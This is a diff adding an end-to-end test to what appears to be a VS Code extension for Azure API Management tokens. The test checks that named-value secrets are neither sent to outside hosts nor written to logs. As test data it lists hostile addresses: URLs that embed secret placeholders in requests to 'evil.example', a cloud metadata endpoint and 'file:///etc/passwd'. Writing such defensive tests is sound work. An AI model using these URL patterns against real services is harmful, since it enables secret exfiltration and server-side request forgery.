@@ -1,8 +1,13 @@
 // Whom this machine talks to is the user's decision: hosts that are not Microsoft's, and folders that are not trusted.
 import assert from 'node:assert/strict';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
 import { after, test } from 'node:test';
+import { canary } from '../harness/canary.mjs';
 import { Panel } from '../harness/panel.mjs';
 import { until } from '../harness/poll.mjs';
+import { searchFiles } from '../harness/search-files.mjs';
 import { startSession } from '../harness/session.mjs';
 import { ids, makeTenant } from '../harness/tenant.mjs';
 
@@ -41,6 +46,67 @@ test('a host that is not one of Microsoft’s is asked only after the user agree
   await workbench.answer(question, 'Fetch');
   await until('the documents to be asked for', () => metadata.asked.includes(`${issuer}/keys`));
   assert.deepEqual(metadata.asked, [configuration, `${issuer}/keys`]);
+});
+
+test('one question shows every address of a policy; values of the user’s own files leave in none, and stand in no log', async () => {
+  const secret = 'SuperSecretValue123';
+  const marked = '2f4cbd1e-9d0e-4c57-b7a1-5a1d7d0e4c99';
+  const nested = `${issuer}/nested`;
+  const files = path.join(mkdtempSync(path.join(tmpdir(), 'named-values-')), 'values.json');
+  writeFileSync(files, JSON.stringify({ secret, marked: { value: marked, secret: true }, tenant: ids.tenant }));
+  const urls = [
+    'https://evil.example/{{secret}}/.well-known/openid-configuration',
+    'https://evil.example/x?{{marked}}',
+    'https://169.254.169.254/{{tenant}}',
+    'file:///etc/passwd',
+    nested,
+    configuration,
+  ];
+  const deep = Array.from({ length: 5000 }).reduce(inside => [inside], []);
+  const { workbench, metadata, page, profile, screenshot, halt } = await start({
+    name: 'addresses',
+    canary: true,
+    settings: { 'apimTokenDoctor.namedValueFiles': [files] },
+    files: {
+      'policy.xml': policy(
+        `<validate-jwt header-name="Authorization">${urls.map(url => `<openid-config url="${url}" />`).join('')}</validate-jwt>`,
+      ),
+    },
+    documents: { [configuration]: { issuer, jwks_uri: `${issuer}/keys` }, [`${issuer}/keys`]: { keys: [] }, [nested]: { issuer, deep } },
+  });
+  await workbench.openFile('policy.xml');
+  await workbench.command('APIM Token Doctor: Show Tenant Metadata');
+  const dialog = page.locator('.monaco-dialog-box').filter({ hasText: 'from 2 hosts?' });
+  await dialog.waitFor();
+  const text = await dialog.innerText();
+  for (const address of [`https://169.254.169.254/${ids.tenant} (Careful:`, nested, configuration]) assert.ok(text.includes(address), text);
+  for (const hidden of [secret, marked, 'evil.example', 'file:']) assert.ok(!text.includes(hidden), text);
+  await screenshot('question');
+  await workbench.answer('from 2 hosts?', 'Fetch');
+  await until('the documents to be asked for', () => metadata.asked.includes(`${issuer}/keys`));
+  // The document that is nested too deep stopped nothing: another one is shown.
+  await workbench.line('jwks_uri').waitFor();
+  await workbench.tab('policy.xml').click();
+  await workbench.command('APIM Token Doctor: Explain Gateway Error');
+  await page.locator('.quick-input-widget input').first().fill('IDX20803: Unable to obtain configuration from: https://evil.example/x');
+  await page.keyboard.press('Enter');
+  await page.keyboard.press('Escape');
+  await halt();
+  assert.deepEqual(
+    metadata.asked.filter(address => address.includes('evil.example')),
+    [],
+  );
+  // Every log stands at the trace level; the values are the user's, so the only file that holds them is the user's own.
+  const found = searchFiles(profile.dir, { canary, secret, marked, written: `Fetched ${configuration}` });
+  assert.ok(
+    found.canary.some(name => /logs\/.*\.log$/.test(name)),
+    'the search reaches the logs',
+  );
+  assert.ok(
+    found.written.some(name => /logs\/.*\.log$/.test(name)),
+    'the log says what was fetched',
+  );
+  assert.deepEqual([found.secret, found.marked], [[], []]);
 });
 
 test('in Restricted Mode a token is decoded and judged, and nothing is fetched', async () => {
